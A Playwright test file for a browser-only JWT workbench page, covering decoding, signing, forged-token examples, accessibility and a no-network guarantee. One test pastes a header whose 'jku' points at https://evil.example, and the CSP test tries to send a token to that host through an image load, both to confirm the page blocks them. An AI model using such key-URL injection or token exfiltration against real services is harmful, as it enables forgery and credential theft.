import type { Page, Request } from "@playwright/test";
import { workbenchLink } from "@/lib/tokens/link";
import { samples } from "@/lib/tokens/samples";
import { findMore, findViolations } from "./axe.ts";
import { expect, test } from "./kept.ts";
import { backOnDesktop, onPhone } from "./phone.ts";
import { test as alone } from "./test.ts";

const field = (page: Page) => page.getByRole("textbox", { name: "Encoded" });
const keyField = (page: Page) => page.getByRole("textbox", { name: "Key" });
const verdict = (page: Page) => page.getByRole("region", { name: "Verdict" });
const payload = (page: Page) => page.getByRole("region", { name: "Payload" });

async function open(page: Page, fragment = "") {
  await page.goto(`/tokens${fragment}`, { waitUntil: "networkidle" });
  await expect(verdict(page)).toBeVisible();
}

async function chooseFrom(page: Page, menu: string, item: string | RegExp) {
  await page.getByRole("button", { name: menu }).click();
  await page.getByRole("region", { name: menu }).getByRole("button", { name: item }).click();
}

async function see(page: Page, title: string) {
  await expect(verdict(page).getByRole("heading")).toHaveText(title);
}

/** The scripts that come when somebody moves the pointer, and every request that is made after they came. */
async function showThatOneIsThere(page: Page) {
  const [asked, under] = [new Set<string>(), new Set<Request>()];
  page.on("request", (request) => {
    asked.add(request.url());
    under.add(request);
  });
  page.on("requestfinished", (request) => under.delete(request));
  await page.mouse.move(300, 300);
  await expect.poll(() => asked.size > 0 && under.size === 0).toBe(true);
  const scripts = [...asked];
  asked.clear();
  return { scripts, asked };
}

/** First, since it takes longest. One after the other in one page: to open it anew, and axe with it, takes longer than all that is looked at. */
const states: Readonly<Record<string, (page: Page) => Promise<unknown>>> = {
  "a menu": (page) => page.getByRole("button", { name: "Make a key" }).click(),
  "a forgery": async (page) => {
    await page.keyboard.press("Escape");
    await chooseFrom(page, "Examples", /A forgery/);
  },
  "an encrypted token": (page) => chooseFrom(page, "Examples", /An encrypted token/),
  "a broken token": (page) => chooseFrom(page, "Examples", /A token cut short/),
  "no token": (page) => page.getByRole("button", { name: "Empty the box" }).click(),
  "the form": async (page) => {
    await chooseFrom(page, "Examples", /A forgery/);
    await payload(page).getByRole("radio", { name: "Form" }).check();
  },
  "broken JSON": async (page) => {
    await payload(page).getByRole("radio", { name: "JSON" }).check();
    await payload(page).getByRole("textbox").fill("{");
  },
  "a comparison": async (page) => {
    await chooseFrom(page, "Examples", /A forgery/);
    await page.getByText("Compare two").click();
    await page.getByRole("textbox", { name: "The other" }).fill(samples.forged.token);
  },
};

test("no word of what stands in the empty field is broken, though a token is", async ({ page }) => {
  await open(page);
  const broken = () => field(page).evaluate((box) => getComputedStyle(box).wordBreak);
  await field(page).fill("");
  await expect.poll(broken).toBe("normal");
  await field(page).fill(samples["access-token"].token);
  await expect.poll(broken).toBe("break-all");
});

test("axe finds nothing, on a desktop and on a phone, whatever the workbench shows", async ({ page }) => {
  test.setTimeout(Object.keys(states).length * 20_000);
  await page.setViewportSize({ width: 1440, height: 900 });
  await page.goto("/tokens");
  await expect(verdict(page)).toBeVisible();
  for (const [name, prepare] of Object.entries(states)) {
    await prepare(page);
    await page.waitForTimeout(300);
    expect.soft(await findViolations(page), name).toEqual([]);
    await onPhone(page, async () => {
      expect.soft(await findMore(page), `${name} on a phone`).toEqual([]);
    });
    await backOnDesktop(page);
  }
});

test("nothing leaves the machine: no request is made, whatever one does, and the page works without a network", async ({
  page,
  context,
}) => {
  await open(page);
  const { scripts, asked } = await showThatOneIsThere(page);
  for (const script of scripts)
    expect(new URL(script).pathname).toMatch(/^\/_next\/static\/chunks\/[\w.~-]+\.js$/);
  await context.setOffline(true);
  await field(page).fill(`Authorization: Bearer ${samples["jane-doe"].token}`);
  await keyField(page).fill("your-256-bit-secret");
  await see(page, "The signature is wrong");
  await chooseFrom(page, "Make a key", /^RS256/);
  await page.getByRole("button", { name: "Sign with RS256" }).click();
  await see(page, "The signature is right");
  await chooseFrom(page, "Make a key", /^ECDH-ES/);
  await page.getByRole("button", { name: "Encrypt with ECDH-ES" }).click();
  await see(page, "Decrypted");
  await keyField(page).fill("https://id.example/jwks.json");
  await expect(page.getByText("this page asks nobody")).toBeVisible();
  await field(page).fill('{"alg":"RS256","jku":"https://evil.example"}');
  await page.getByText("Compare two").click();
  await page.getByRole("textbox", { name: "The other" }).fill(samples.forged.token);
  await page.getByText("One token", { exact: true }).first().click();
  for (const name of ["An access token", "An encrypted token", "A forgery"])
    await chooseFrom(page, "Examples", new RegExp(name));
  expect([...asked]).toEqual([]);
});

/** In a browser that has none of them from another test. */
alone.describe("where the scripts that verify do not come", () => {
  alone.use({ provoked: /ERR_INTERNET_DISCONNECTED/ });

  alone("the token is read all the same, and one can ask for them again", async ({ page, context }) => {
    await open(page);
    const explained = payload(page).getByText("From this moment on the token is not good any more.");
    await expect(explained).toBeVisible();
    await context.setOffline(true);
    await field(page).fill(samples["jane-doe"].token);
    await see(page, "Not verified yet");
    await expect(payload(page)).toContainText("Jane Doe");
    await expect(page.getByText("The scripts that verify and sign did not come.")).toBeVisible();
    await context.setOffline(false);
    // At once: the page asks for them by itself as well, and then there is no button to wait for.
    await page
      .getByRole("button", { name: "Try again" })
      .evaluate((button: HTMLButtonElement) => button.click());
    await see(page, "Not verified: there is no key");
    await expect(page.getByRole("button", { name: "Try again" })).toBeHidden();
    await field(page).fill(samples["access-token"].token);
    await expect(explained).toBeVisible();
  });
});

const { token: accessToken } = samples["access-token"];

const shapes: Readonly<Record<string, readonly [pasted: string, said: string]>> = {
  "a token with line breaks and spaces": [
    ` ${accessToken.replace(/.{60}/g, "$&\n  ")} `,
    "spaces and line breaks were taken out",
  ],
  "an Authorization header": [`Authorization: Bearer ${accessToken}`, "Found in a header field."],
  "a token response": [
    JSON.stringify({ access_token: accessToken, token_type: "Bearer", expires_in: 600 }),
    "Found in JSON.",
  ],
  "an address with the token in its fragment": [
    `https://prints.example/callback#access_token=${accessToken}&token_type=Bearer`,
    "Found in an address.",
  ],
};

test("whatever holds a token is put in, and the token in it is there", async ({ page }) => {
  await open(page);
  for (const [name, [pasted, said]] of Object.entries(shapes))
    await test.step(name, async () => {
      await page.getByRole("button", { name: "Empty the box" }).click();
      await field(page).fill(pasted);
      await expect(field(page)).toHaveValue(accessToken);
      await expect(page.getByText(said)).toBeVisible();
      await expect(payload(page)).toContainText("For whom it is meant.");
    });
});

test("where there is no token, the page says why, and what one can begin with", async ({ page }) => {
  await open(page);
  await page.getByRole("button", { name: "Empty the box" }).click();
  await expect(page.getByRole("heading", { name: "Nothing on the bench yet" })).toBeVisible();
  await expect(keyField(page)).toHaveValue("");
  await field(page).fill('{"iss":"https://id.example",}');
  const reason = page.getByRole("region", { name: "Nothing on the bench yet" });
  await expect(reason).toContainText("The JSON breaks off at character 29");
  await keyField(page).fill("a secret that comes before its token");
  await expect(page.getByText("Secret of 288 bits")).toBeVisible();
  await reason.getByRole("button", { name: "The Jane Doe token" }).click();
  await see(page, "The signature is wrong");
});

test.describe("the policy of the page", () => {
  test.use({ provoked: /Content Security Policy/ });

  test("forbids every connection, and pictures from elsewhere", async ({ page }) => {
    const response = await page.goto("/tokens");
    expect(response?.headers()["content-security-policy"]).toContain("connect-src 'none'");
    const tried = await page.evaluate(async () => {
      const fetched = await fetch("/").then(
        () => "sent",
        () => "refused",
      );
      const shown = await new Promise((resolve) => {
        const image = new Image();
        image.onload = () => resolve("sent");
        image.onerror = () => resolve("refused");
        image.src = "https://evil.example/?token";
      });
      return [fetched, shown];
    });
    expect(tried).toEqual(["refused", "refused"]);
  });
});

test("the Jane Doe token is invalid with your-256-bit-secret, and the page says whose signature it has", async ({
  page,
}) => {
  await open(page);
  await field(page).fill(samples["jane-doe"].token);
  await see(page, "Not verified: there is no key");
  await keyField(page).fill("your-256-bit-secret");
  await see(page, "The signature is wrong");
  await expect(verdict(page)).toContainText('"name":"John Doe"');
  await expect(verdict(page)).toContainText("Anyone can guess the secret");
});

test("a token that is edited stays broken until one signs, and can be taken back", async ({ page }) => {
  await open(page);
  await payload(page).getByRole("radio", { name: "Form" }).check();
  await payload(page).getByLabel("Value of scope").fill("admin");
  await see(page, "The signature is wrong");
  await expect(verdict(page)).toContainText("You have changed the payload");
  await page.getByRole("button", { name: "Undo the changes" }).click();
  await see(page, "The signature is right");
  // A time is a number: what is none stays in its field, which says what is wrong (WCAG 3.3.1), and the token stays.
  const expires = payload(page).getByLabel("Value of exp");
  await expires.fill("soon");
  await expect(expires).toHaveAccessibleDescription(
    "The JSON breaks off at character 1: a value is expected, and s stands there.",
  );
  await see(page, "The signature is right");
  await expires.fill("1767262205");
  await expect(expires).toHaveAccessibleDescription("");
  await payload(page).getByRole("radio", { name: "JSON" }).check();
  const json = payload(page).getByRole("textbox");
  await json.fill('{"iss":"https://id.example",}');
  await expect(payload(page)).toContainText("The JSON breaks off at character 29");
  await see(page, "The signature is right");
  await json.fill('{"iss":"https://id.example"}');
  await see(page, "The signature is wrong");
  await chooseFrom(page, "Make a key", /^EdDSA/);
  await see(page, "Not verified: this is no key for it");
  await page.getByRole("button", { name: "Sign with EdDSA" }).click();
  await see(page, "The signature is right");
  await expect(page.getByRole("region", { name: "Header" })).toContainText('"EdDSA"');
});

test("text and claims point at each other, by pointer and by caret", async ({ page }) => {
  await open(page);
  const row = payload(page).locator("[data-index]").filter({ hasText: "client_id" });
  await row.hover();
  const marked = page.locator('[data-member="payload 3"]');
  await expect(marked).toHaveClass(/bg-current/);
  await page.mouse.move(0, 0);
  await expect(marked).not.toHaveClass(/bg-current/);
  const box = await marked.boundingBox();
  if (box === null) throw new Error("the characters are drawn");
  await page.mouse.move(box.x + box.width / 2, box.y + 8);
  await expect(row).toHaveClass(/bg-current/);
  await page.mouse.move(0, 0);
  await field(page).evaluate((area: HTMLTextAreaElement) => {
    area.focus();
    area.setSelectionRange(75, 75);
  });
  await page.keyboard.press("ArrowLeft");
  await expect(payload(page).locator("[data-index]").first()).toHaveClass(/bg-current/);
});

test("of a token of 100 KiB those lines are coloured that one sees, at the place of the field's own", async ({
  page,
}) => {
  await open(page);
  const [header = "", , signature = ""] = accessToken.split(".");
  const claims = Buffer.from(JSON.stringify({ log: "x".repeat(76_000) })).toString("base64url");
  await field(page).fill(`${header}.${claims}.${signature}`);
  await see(page, "The signature is wrong");
  await field(page).evaluate((area) => area.scrollTo(0, 0));
  const last = page.locator("[aria-hidden] > span.text-part-signature");
  await expect(last).toHaveCount(0);
  await expect(page.locator('[data-member="payload 0"]')).toHaveCount(1);
  await expect(field(page)).toHaveValue(`${header}.${claims}.${signature}`);
  await field(page).evaluate((area) => area.scrollTo(0, area.scrollHeight));
  await expect(last).toBeVisible();
  const { text, distance, lines, height } = await last.evaluate((piece) => {
    const area = document.querySelector("textarea");
    const bottom = area?.getBoundingClientRect().bottom ?? 0;
    return {
      text: piece.textContent?.replaceAll("\n", ""),
      distance: bottom - piece.getBoundingClientRect().bottom,
      lines: piece.parentElement?.textContent?.split("\n") ?? [],
      height: area?.scrollHeight,
    };
  });
  expect(text).toBe(signature);
  // The padding below the last line, and what the line leaves free.
  expect(Math.abs(distance - 14)).toBeLessThan(8);
  const [perLine = 0, ...others] = lines.slice(0, -1).map((line) => line.length);
  expect(new Set(others)).toEqual(new Set([perLine]));
  const { length } = await field(page).inputValue();
  expect(height).toBe(Math.ceil(length / perLine) * 24 + 28);
});

test("a mistake is shown where it is", async ({ page }) => {
  await open(page);
  const token = accessToken;
  await field(page).fill(`${token.slice(0, 100)}*${token.slice(101)}`);
  await expect(page.getByText("Broken at character 101.")).toBeVisible();
  await expect(payload(page)).toContainText("Character 101 of the token is *");
  const [colour, before] = await page
    .locator("[aria-hidden] > span", { hasText: /^\*$/ })
    .evaluate((letter) =>
      [letter, letter.previousElementSibling ?? letter].map((piece) => getComputedStyle(piece).color),
    );
  expect(colour, "light on the ground of a mistake, and not in the colour of its part").not.toBe(before);
  await expect(payload(page)).toContainText('{"iss":"https://id.examp');
});

test("a link carries the token in its fragment, only when asked, and goes when another token is there", async ({
  page,
  context,
}) => {
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  await open(page);
  await field(page).fill(samples.unsecured.token);
  expect(new URL(page.url()).hash).toBe("");
  await chooseFrom(page, "Copy", "A link with this token");
  const link = await page.evaluate(() => navigator.clipboard.readText());
  expect(new URL(link).search).toBe("");
  await open(page, new URL(link).hash);
  await expect(field(page)).toHaveValue(samples.unsecured.token);
  await see(page, "Not signed: anyone can write this");
  await field(page).fill(samples["jane-doe"].token);
  await expect.poll(() => new URL(page.url()).hash).toBe("");
});

test("a link from a flow brings its key and its time", async ({ page }) => {
  const { token, key, at = 0 } = samples["access-token"];
  await open(page, workbenchLink({ token, key, at }).replace("/tokens", ""));
  await see(page, "The signature is right");
  await expect(verdict(page)).toContainText("expires in 9 min 58 s");
  await page.getByRole("button", { name: "Judge it now" }).click();
  await expect(verdict(page)).toContainText(/Expired \d+ days ago/);
});

test("two tokens are compared claim by claim", async ({ page }) => {
  await open(page);
  await field(page).fill(samples["jane-doe"].token);
  await page.getByText("Compare two").click();
  const { token } = samples["jane-doe"];
  await page
    .getByRole("textbox", { name: "The other" })
    .fill(token.replace("IkphbmUgRG9lIiwi", "IkpvaG4gRG9lIiwi"));
  await expect(page.getByRole("heading", { name: "One difference" })).toBeVisible();
  await expect(page.getByText("Both have the same signature")).toBeVisible();
  await expect(page.getByRole("row", { name: /name ?, different/ })).toContainText("John Doe");
});
